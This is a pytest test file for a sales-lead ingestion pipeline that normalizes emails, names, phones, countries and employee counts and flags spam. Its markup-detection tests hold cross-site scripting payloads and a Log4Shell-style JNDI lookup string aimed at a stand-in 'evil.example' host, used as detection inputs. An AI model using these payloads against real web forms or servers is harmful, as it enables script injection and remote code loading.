"""Normalized columns of raw.inbound_events: pure functions over the raw values, tested case by case."""

from __future__ import annotations

import socket

import pytest
import tldextract

from assets.ingest.contract import parse_event_line
from assets.ingest.normalize import (
    NORMALIZED_COLUMNS,
    SPAM_SIGNAL_CODES,
    email_domain,
    has_markup,
    is_gibberish,
    is_junk_email,
    is_link_stuffed,
    normalize_company,
    normalize_country,
    normalize_email,
    normalize_event,
    normalize_names,
    normalize_phone,
    parse_employees,
)
from common.domains import email_key, registrable_domain

# --- email ---


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("  Jane.Doe@Acme.COM ", "jane.doe@acme.com"),
        ("JANE+News@Example.org", "jane+news@example.org"),
        ("ü@bücher.de", "ü@bücher.de"),
        ("jane@acme", None),  # no top-level domain
        ("jane@@acme.com", None),
        ("jane doe@acme.com", None),
        ("Jane <jane@acme.com>", None),
        ("jane@acme..com", None),
        ("x@foo.test", None),  # special-use domain: syntactically unusable for mail
        ("not an email", None),
        ("", None),
        (None, None),
    ],
)
def test_email_is_trimmed_lowercased_and_kept_only_when_syntax_is_valid(
    raw: str | None, expected: str | None
) -> None:
    assert normalize_email(raw) == expected


def test_email_validation_never_looks_up_dns(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("email normalization must not touch the network")

    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    normalize_email.cache_clear()
    assert normalize_email("someone@a-domain-that-does-not-exist-4711.com") is not None


@pytest.mark.parametrize(
    ("email", "key"),
    [
        ("jane.doe+news@acme.com", "jane.doe@acme.com"),  # plus tag dropped, dots kept outside Gmail
        ("j.a.n.e+x@gmail.com", "jane@gmail.com"),
        ("jane.doe@googlemail.com", "janedoe@gmail.com"),
        ("janedoe@gmail.com", "janedoe@gmail.com"),
        ("+only@acme.com", "+only@acme.com"),  # nothing before the plus: keep the mailbox as is
        ("a+b+c@acme.com", "a@acme.com"),
        (None, None),
    ],
)
def test_email_key_folds_plus_tags_and_gmail_dots(email: str | None, key: str | None) -> None:
    assert email_key(email) == key


def test_variants_of_one_gmail_address_share_one_key() -> None:
    variants = ["Jane.Doe@GMail.com", " janedoe+demo@gmail.com", "j.ane.doe@googlemail.com"]
    assert {email_key(normalize_email(variant)) for variant in variants} == {"janedoe@gmail.com"}


def test_email_domain_is_the_part_after_the_at_sign() -> None:
    assert email_domain("jane@mail.acme.co.uk") == "mail.acme.co.uk"
    assert email_domain(None) is None


@pytest.mark.parametrize(
    "raw",
    [
        "test@test.com",
        "test@acme.com",
        "a@a.a",
        "x@y.com",
        "aa@acme.com",
        "xxxx@acme.com",
        "noreply@acme.com",
        "no-reply@acme.com",
        "donotreply@acme.com",
        "jane@example.com",
        "jane@example.org",
        "jane@acme.test",
        "jane@acme.invalid",
        "jane@acme.example",
        "asdf@acme.com",
        "asdf123@acme.com",
        "qwerty@acme.com",
        "lkjh@acme.com",
        "asdasd@acme.com",
        "sdfsdf@acme.com",
        "  TEST+form@Acme.com ",
        # noreply and its spellings, anywhere in the mailbox name
        "no.reply@acme.com",
        "No_Reply@acme.com",
        "do.not.reply@acme.com",
        "dontreply@acme.com",
        "donotreply123@acme.com",
        "noreply-billing@acme.com",
        "billing-noreply@acme.com",
        # mailboxes no person reads
        "mailer-daemon@acme.com",
        "MAILER_DAEMON@acme.com",
        "postmaster@acme.com",
        "abuse@acme.com",
        # test@test.com variants
        "test1@acme.com",
        "test-123@acme.com",
        "tests@acme.com",
        "test.test@acme.com",
        "testtest@gmail.com",
        "test_user@acme.com",
        "test@test.de",
        "jane@test.acme.com",
        # placeholders typed instead of an address
        "A@A.A",
        "youremail@gmail.com",
        "your.name@company.com",
        "firstname.lastname@acme.com",
        "user@domain.com",
        "email@email.com",
        "me@me.com",
        "na@na.com",
        "jane@yourcompany.com",
        "jane@asdf.com",
    ],
)
def test_junk_addresses_are_recognised(raw: str) -> None:
    assert is_junk_email(raw)


@pytest.mark.parametrize(
    "raw",
    [
        "jane.doe@acme.com",
        "j@acme.com",  # a one-letter mailbox at a real domain happens (founders)
        "dallas@acme.com",  # only home-row letters, but not a walk
        "peter@acme.com",  # only top-row letters, but not a walk
        "info@acme.com",
        "sales@acme.co.uk",
        "tester.smith@acme.com",
        "contest@acme.com",
        "admin@acme.com",  # role inboxes people read are leads
        "hello@acme.com",
        "contact@acme.com",
        "jane.test@acme.com",  # a person testing the form is still a person
        "username.smith@acme.com",
        "rootbeer@acme.com",
        "bob@bob.com",  # a vanity domain, not filler
        "ann@aaa.com",
        "12345678@qq.com",  # QQ mailboxes are numbers
        "no_at_sign",
        "",
        None,
    ],
)
def test_real_addresses_are_not_junk(raw: str | None) -> None:
    assert not is_junk_email(raw)


# --- names and company ---


@pytest.mark.parametrize(
    ("first", "last", "full", "expected"),
    [
        ("jane", "doe", None, ("Jane", "Doe")),
        ("JANE", "DOE", None, ("Jane", "Doe")),
        ("  mary   ann ", "o'brien", None, ("Mary Ann", "O'Brien")),
        ("ronald", "mcdonald", None, ("Ronald", "McDonald")),
        ("DeShawn", "McKenzie", None, ("DeShawn", "McKenzie")),  # mixed case is the person's spelling
        ("jean-luc", "PICARD", None, ("Jean-Luc", "Picard")),
        (None, None, "jane doe", ("Jane", "Doe")),
        (None, None, "Dr. Jane van der Berg PhD", ("Jane", "van der Berg")),
        (None, None, "Doe, Jane", ("Jane", "Doe")),
        (None, None, "JOSÉ GARCÍA-LÓPEZ", ("José", "García-López")),
        (None, None, "Madonna", ("Madonna", None)),
        ("Jane", None, "Jane Doe", ("Jane", "Doe")),  # only the missing part comes from full_name
        (None, "Smith", "Jane Doe", ("Jane", "Smith")),
        (None, None, None, (None, None)),
        ("", " ", "  ", (None, None)),
    ],
)
def test_names_are_title_cased_and_taken_from_full_name_when_missing(
    first: str | None, last: str | None, full: str | None, expected: tuple[str | None, str | None]
) -> None:
    assert normalize_names(first, last, full) == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Acme Inc.", "acme"),
        ("Acme, Inc.", "acme"),
        ("ACME GmbH", "acme"),
        ("  Acme    Corporation ", "acme"),
        ("Acme Ltd", "acme"),
        ("Acme S.A.", "acme"),
        ("Acme B.V.", "acme"),
        ("Acme Pty Ltd", "acme"),
        ("Acme & Sons Co., Ltd.", "acme & sons"),
        ("The Acme Company", "acme"),
        ("Acme Holdings Inc", "acme holdings"),
        ("Société Générale SA", "société générale"),
        ("Hooli", "hooli"),
        ("Inc", "inc"),  # nothing but a suffix: keep the word rather than an empty name
        ("n/a", None),
        ("Self-employed", None),
        ("-", None),
        ("", None),
        (None, None),
    ],
)
def test_company_is_lower_cased_without_legal_suffix(raw: str | None, expected: str | None) -> None:
    assert normalize_company(raw) == expected


# --- website ---


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("https://www.Acme.com/pricing?x=1", "acme.com"),
        ("acme.com", "acme.com"),
        ("www.acme.co.uk", "acme.co.uk"),
        ("http://shop.acme.com.au:8080/", "acme.com.au"),
        ("acme.myshopify.com", "acme.myshopify.com"),  # private suffix: each store is its own company
        ("jane@acme.io", "acme.io"),  # an email typed into the website field
        (" ACME.COM ", "acme.com"),
        ("localhost", None),
        ("http://10.0.0.1/", None),
        ("acme", None),
        ("n/a", None),
        ("", None),
        (None, None),
    ],
)
def test_website_domain_is_the_registrable_domain(raw: str | None, expected: str | None) -> None:
    assert registrable_domain(raw) == expected


def test_registrable_domain_uses_the_bundled_suffix_list_without_network(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("tldextract must not touch the network")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    monkeypatch.setattr("requests.Session.get", no_network)
    # A fresh extractor built like ours: it must load the bundled snapshot, not fetch the list.
    extractor = tldextract.TLDExtract(suffix_list_urls=(), cache_dir=None, include_psl_private_domains=True)
    assert extractor("https://forums.bbc.co.uk/").top_domain_under_public_suffix == "bbc.co.uk"
    registrable_domain.cache_clear()
    assert registrable_domain("https://www.example.com.br/") == "example.com.br"


# --- country and phone ---


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("United States", "US"),
        ("USA", "US"),
        ("U.S.", "US"),
        ("u.s.a.", "US"),
        ("United States of America", "US"),
        ("us", "US"),
        ("UK", "GB"),
        ("U.K.", "GB"),
        ("Great Britain", "GB"),
        ("England", "GB"),
        ("gbr", "GB"),
        ("Germany", "DE"),
        ("Deutschland", "DE"),
        ("de", "DE"),
        ("DEU", "DE"),
        ("Holland", "NL"),
        ("The Netherlands", "NL"),
        ("Côte d'Ivoire", "CI"),
        ("Cote d'Ivoire", "CI"),
        ("México", "MX"),
        ("South Korea", "KR"),
        ("Russia", "RU"),
        ("Türkiye", "TR"),
        ("Turkey", "TR"),
        ("UAE", "AE"),
        ("  france ", "FR"),
        ("Europe", None),
        ("EMEA", None),
        ("xx", None),
        ("", None),
        (None, None),
    ],
)
def test_country_becomes_iso_alpha2_from_names_codes_and_aliases(
    raw: str | None, expected: str | None
) -> None:
    assert normalize_country(raw) == expected


@pytest.mark.parametrize(
    ("raw", "country", "expected"),
    [
        ("+1 415 555 0132", None, "+14155550132"),
        ("(415) 555-0132", "US", "+14155550132"),
        ("415.555.2671 ext. 12", "US", "+14155552671"),
        ("020 7946 0958", "GB", "+442079460958"),
        ("+44 (0)20 7946 0958", None, "+442079460958"),
        ("0049 30 1234567", "DE", "+49301234567"),
        ("030 1234567", "DE", "+49301234567"),
        ("+33 1 23 45 67 89", "US", "+33123456789"),  # an explicit country code beats the hint
        ("(415) 555-0132", None, None),  # national format without a country: ambiguous
        ("+1 111 111 1111", None, None),  # possible length, no such area code
        ("555-1234", "US", None),  # too short to be a full number
        ("call me", "US", None),
        ("", "US", None),
        (None, "US", None),
    ],
)
def test_phone_is_e164_only_when_valid(raw: str | None, country: str | None, expected: str | None) -> None:
    assert normalize_phone(raw, country) == expected


# --- employees ---


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("51-200", (51, 200)),
        ("51 - 200", (51, 200)),
        ("51–200", (51, 200)),  # en dash
        ("11-50 employees", (11, 50)),
        ("1 to 10", (1, 10)),
        ("between 10 and 50", (10, 50)),
        ("1,000-5,000", (1000, 5000)),
        ("1k-5k", (1000, 5000)),
        ("1-5k", (1000, 5000)),  # the multiplier carries to the lower bound
        ("500-5k", (500, 5000)),  # ... but not when the lower bound is already bigger
        ("1000+", (1000, None)),
        ("1k+", (1000, None)),
        ("10K+ employees", (10000, None)),
        ("over 1000", (1000, None)),
        ("more than 500", (500, None)),
        ("5000 or more", (5000, None)),
        ("under 10", (1, 9)),
        ("less than 50", (1, 49)),
        ("<50", (1, 49)),
        ("up to 50", (1, 50)),
        ("about 300", (300, 300)),
        ("~300", (300, 300)),
        ("approx. 250", (250, 250)),
        ("300ish", (300, 300)),
        ("10,000", (10000, 10000)),
        ("1.5k", (1500, 1500)),
        ("250", (250, 250)),
        ("250.", (250, 250)),
        ("just me", (1, 1)),
        ("1m+", (1_000_000, None)),
    ],
)
def test_employees_free_text_is_parsed_to_a_range(raw: str, expected: tuple[int | None, int | None]) -> None:
    assert parse_employees(raw) == expected


@pytest.mark.parametrize(
    "raw",
    ["lots", "n/a", "big", "200-51", "0", "-5", "2.5", "10000000", "51-200-500", "twelve", "", "   ", None],
)
def test_employees_garbage_gives_no_range(raw: str | None) -> None:
    assert parse_employees(raw) == (None, None)


def test_employees_sent_as_a_json_number_parses_like_text() -> None:
    event = parse_event_line(
        '{"event_id": "e", "source": "chat", "received_at": "2024-05-01T00:00:00Z", "employees": 250}'
    )
    assert normalize_event(event)["employees_reported_min"] == 250


# --- spam signals ---


@pytest.mark.parametrize(
    "message",
    [
        "see https://a.example https://b.example https://c.example",
        "www.a.ru www.b.ru www.c.ru cheap",
        "https://spam.example/buy-now-cheap-pills",
        "Visit http://a.ru/x http://b.ru/y",
        "Buy now: bit.ly/x1 bit.ly/y2 cheap-pills.ru/buy",  # links without a scheme count too
        "bit.ly/3xYz",
    ],
)
def test_link_stuffed_messages_are_flagged(message: str) -> None:
    assert is_link_stuffed(message)


@pytest.mark.parametrize(
    "message",
    [
        "Please check our current setup at https://acme.com before the call",
        "Pricing for https://acme.com/pricing and https://acme.com/enterprise please, we have 300 reps",
        "no links here",
        "We run Node.js/React, Vue.js/Nuxt and Next.js/Vercel today",  # not hosts: no public suffix
        "We use salesforce.com, hubspot.com and outreach.io",  # domains without a path are not links
        "e.g./i.e. and/or w/o",
        "",
        None,
    ],
)
def test_messages_with_a_link_or_two_in_real_text_are_not_link_stuffed(message: str | None) -> None:
    assert not is_link_stuffed(message)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<a href='http://x'>x</a>",
        "hello<br/>there",
        "</div>",
        "&lt;script&gt;",
        "[url=http://spam.example]cheap[/url]",
        "javascript:alert(1)",
        "JAVASCRIPT :alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        '" onmouseover="alert(1)',  # breaking out of an attribute: a handler without a tag
        "x onerror=alert(1)",
        "<svg/onload=alert(1)>",
        "<iframe src=//evil.example",  # unclosed
        "<iframe src='https://evil.example'></iframe>",
        "&#60;script&#62;",  # numeric entities
        "&#x3C;script",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",  # %-escaped
        "${jndi:ldap://evil.example/a}",
        "<b>cheap</b> pills",
        "<font color=red>WIN</font>",
        "<user-card data-id=1>",  # a custom element
    ],
)
def test_markup_is_detected(text: str) -> None:
    assert has_markup(None, text)


@pytest.mark.parametrize(
    "text",
    [
        "I <3 your product",
        "a < b > c",
        "write to <jane@acme.com>",
        "JavaScript: yes",
        "R&D",
        "Q&amp;A",
        "AT&T",
        "50% off",
        "100%3 sure",
        "online=true",
        "onboarding = week 1",
        "x < form fields",
        "size<10",
        "scripting: python",
        "https://acme.com/landing?utm_source=x%20y&a=b",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0",
        # Placeholders and made-up tags are no element a browser renders or runs.
        "Dear <name>, please quote <number of seats> seats",
        "copy the API key into <config>/settings.yml",
        "<Note> we already use your product </Note>",
        None,
    ],
)
def test_plain_text_with_angle_brackets_is_not_markup(text: str | None) -> None:
    assert not has_markup(text)


@pytest.mark.parametrize(
    "message",
    [
        "asdfasdf",
        "sdfghjkl",
        "xkcdqwrtzpl",
        "aaaaaaaaaaaaaaaaaaaaaaaa",
        "kjhdfkjhsdkjfhksjdhf",
        "dfgdfgdfg dfgdfgdfg",
        "qwrtp zxcvb mnbvc",
        "ajsdhaksjdhaksjdh",  # home-row mash with a vowel in it
    ],
)
def test_gibberish_messages_are_flagged(message: str) -> None:
    assert is_gibberish(message)


@pytest.mark.parametrize(
    "message",
    [
        "pricing?",
        "Need a demo for 50 seats",
        "ok",
        "hmm",
        "thx",
        "Hi, can you send SOC2 and GDPR docs?",
        "We need SSO/SCIM + HIPAA BAA for 2,000 users",
        "Strengths, rhythm and Mr. Schwarzschild",
        "Wir brauchen eine Demo für unser Vertriebsteam",
        "Flask and Haskell for our salads in Dallas",  # home-row words, but real ones
        "Maksu kassalla",  # Finnish: home-row letters only, but vowel-rich
        "Nous voulons une démonstration, merci",
        "我们需要演示",
        "Нам нужна демонстрация",
        "Check https://xkcdqwrtzpl.example/asdfgh please",  # mash inside a URL is the link's business
        "Reach me at qwrtzp@acme.com",
        "",
        None,
    ],
)
def test_real_messages_are_not_gibberish(message: str | None) -> None:
    assert not is_gibberish(message)


def event_from(**fields: object) -> dict[str, object]:
    import json

    payload = {"event_id": "e1", "source": "web_form", "received_at": "2024-05-01T09:30:00Z", **fields}
    return normalize_event(parse_event_line(json.dumps(payload)))


def test_clean_lead_has_no_spam_signals() -> None:
    row = event_from(email="jane@acme.com", first_name="Jane", message="Need a demo for 50 seats")
    assert row["spam_signals"] == ""


def test_spam_signals_are_listed_in_the_documented_order() -> None:
    row = event_from(
        email="asdf@mailinator.com",
        honeypot="http://spam.example",
        company="<b>Acme</b>",
        message="asdfgh https://a.ru https://b.ru https://c.ru",
    )
    assert row["spam_signals"] == (
        "honeypot_filled;disposable_email;junk_email;link_stuffed_message;markup_in_fields;gibberish_message"
    )
    assert set(row["spam_signals"].split(";")) <= set(SPAM_SIGNAL_CODES)


def test_invalid_email_is_a_signal_but_a_missing_email_is_not() -> None:
    assert event_from(email="jane@@acme")["spam_signals"] == "invalid_email"
    assert event_from(email="jane@acme.test")["spam_signals"] == "junk_email;invalid_email"
    assert event_from()["spam_signals"] == ""


def test_whitespace_honeypot_is_not_filled() -> None:
    assert event_from(honeypot="   ")["spam_signals"] == ""


@pytest.mark.parametrize(
    "fields",
    [
        {"job_title": "<script>x</script>"},
        {"utm": {"campaign": "<img src=x onerror=1>"}},
        {"first_name": "Jane<iframe src=//evil.example>"},
        {"company": '" onfocus="alert(1)'},
        {"landing_page": "https://acme.com/?q=%3Cscript%3Ealert(1)%3C/script%3E"},
        {"website": "javascript:alert(document.cookie)"},
        {"user_agent": "Mozilla/5.0 <script>alert(1)</script>"},
        {"ip": "${jndi:ldap://evil.example/a}"},
        {"partner": {"id": "p1", "referrer_email": "ref@partner.io<svg/onload=alert(1)>"}},
    ],
)
def test_markup_in_any_text_field_is_flagged(fields: dict[str, object]) -> None:
    assert "markup_in_fields" in event_from(**fields)["spam_signals"].split(";")


def test_markup_in_the_email_field_is_flagged_beside_the_invalid_address() -> None:
    assert event_from(email="jane@acme.com<script>")["spam_signals"] == "invalid_email;markup_in_fields"


def test_a_browser_user_agent_and_a_tracked_landing_page_are_not_markup() -> None:
    row = event_from(
        email="jane@acme.com",
        landing_page="https://acme.com/demo?utm_source=linkedin&utm_content=q3%20launch",
        user_agent="Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko)",
        ip="203.0.113.7",
    )
    assert row["spam_signals"] == ""


# --- the whole event ---


def test_normalize_event_returns_exactly_the_documented_columns() -> None:
    row = event_from(
        email=" Jane.Doe+demo@GoogleMail.com ",
        full_name="jane doe",
        company="Acme GmbH",
        website="https://www.acme.de/kontakt",
        country="Deutschland",
        phone="030 1234567",
        employees="51-200",
        message="Need a demo",
    )
    assert tuple(row) == NORMALIZED_COLUMNS
    assert row == {
        "email_normalized": "jane.doe+demo@googlemail.com",
        "email_key": "janedoe@gmail.com",
        "email_domain": "googlemail.com",
        "is_free_email": True,
        "is_disposable_email": False,
        "first_name_normalized": "Jane",
        "last_name_normalized": "Doe",
        "company_normalized": "acme",
        "website_domain": "acme.de",
        "country_code": "DE",
        "phone_e164": "+49301234567",
        "employees_reported_min": 51,
        "employees_reported_max": 200,
        "spam_signals": "",
    }


def test_event_without_email_has_no_email_flags() -> None:
    row = event_from(first_name="Jane")
    assert (
        row["email_normalized"] is None
        and row["is_free_email"] is None
        and row["is_disposable_email"] is None
    )
